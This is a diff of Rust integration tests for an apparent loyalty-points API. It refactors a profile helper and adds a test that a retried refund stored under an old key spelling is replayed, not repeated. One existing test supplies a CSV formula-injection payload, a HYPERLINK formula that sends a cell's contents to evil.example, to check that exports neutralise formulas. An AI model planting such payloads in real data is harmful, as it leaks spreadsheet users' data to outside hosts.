@@ -214,15 +214,6 @@ async fn seed_000_one_member_holds_one_pending_purchase_of_a_card() {
     assert_eq!(stock(&env, &card).await, 3);
 }
 
-async fn put_profile(env: &TestEnv, member: &str, body: Value) -> Res {
-    let req = Req::put(&format!("/admin/members/{member}"))
-        .param("member_id", member)
-        .bearer(&env.admin())
-        .json(&body)
-        .build();
-    Res::from_response(admin_members::handler(&env.ctx, req).await)
-}
-
 /// 003: names, e-mails and ledger reasons went into CSV as typed; `=HYPERLINK(...)` ran when
 /// the owner opened members.csv. Text cells a spreadsheet would evaluate start with `'`;
 /// amounts stay numbers; the export still imports back unchanged.
@@ -230,7 +221,7 @@ async fn put_profile(env: &TestEnv, member: &str, body: Value) -> Res {
 async fn seed_003_exports_neutralise_formulas_and_keep_numbers() {
     let env = TestEnv::new().await;
     earning_shop(&env).await;
-    let made = put_profile(
+    let made = admin_put_profile(
         &env,
         "m1",
         json!({"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
@@ -374,4 +365,67 @@ async fn outbox_count(env: &TestEnv) -> usize {
         .iter()
         .filter(|it| store::item::opt_s(it, "entity_type") == Some("outbox"))
         .count()
+}
+
+/// A refund retried across the deploy of the separated namespaces: its record was written
+/// under the old spelling (`refund.o1.r1`), and the retry must find it, not refund twice.
+#[tokio::test]
+async fn seed_004_a_refund_recorded_under_the_old_key_spelling_is_replayed_not_repeated() {
+    let env = TestEnv::with_clock(api::Clock::Fixed(loyalty_tests::test_epoch())).await;
+    earning_shop(&env).await;
+    let accrued = accrue_now(&env, "m1", "o1", "200.00", json!([])).await;
+    assert_eq!(accrued.status, 200, "{}", accrued.raw);
+    let refund = || async {
+        let req = Req::post("/orders/o1/refunds")
+            .param("order_id", "o1")
+            .bearer(&env.admin())
+            .json(&json!({"refund_id": "r1", "amount": "50.00", "member_id": "m1"}))
+            .build();
+        Res::from_response(order_refund::handler(&env.ctx, req).await)
+    };
+    let first = refund().await;
+    assert_eq!(first.status, 200, "{}", first.raw);
+    assert_eq!(first.body["points_balance"], 150);
+    // The record as the code before the change wrote it.
+    let table = env.store().table().to_owned();
+    let client = env.store().client();
+    let key = |pk: String| {
+        std::collections::HashMap::from([
+            ("PK".to_owned(), store::item::s(pk)),
+            ("SK".to_owned(), store::item::s("IDEM")),
+        ])
+    };
+    let new_pk = format!("SHOP#{}#IDEM#refund#o1#r1", env.shop);
+    let mut item = client
+        .get_item()
+        .table_name(&table)
+        .set_key(Some(key(new_pk.clone())))
+        .consistent_read(true)
+        .send()
+        .await
+        .unwrap()
+        .item
+        .expect("the refund's record");
+    item.insert(
+        "PK".into(),
+        store::item::s(format!("SHOP#{}#IDEM#refund.o1.r1", env.shop)),
+    );
+    client
+        .put_item()
+        .table_name(&table)
+        .set_item(Some(item))
+        .send()
+        .await
+        .unwrap();
+    client
+        .delete_item()
+        .table_name(&table)
+        .set_key(Some(key(new_pk)))
+        .send()
+        .await
+        .unwrap();
+    let again = refund().await;
+    assert_eq!(again.raw, first.raw);
+    assert_eq!(member(&env, "m1").await["points"]["balance"], 150);
+    assert_eq!(ledger_all(&env, "m1", "points").await.len(), 2);
 }
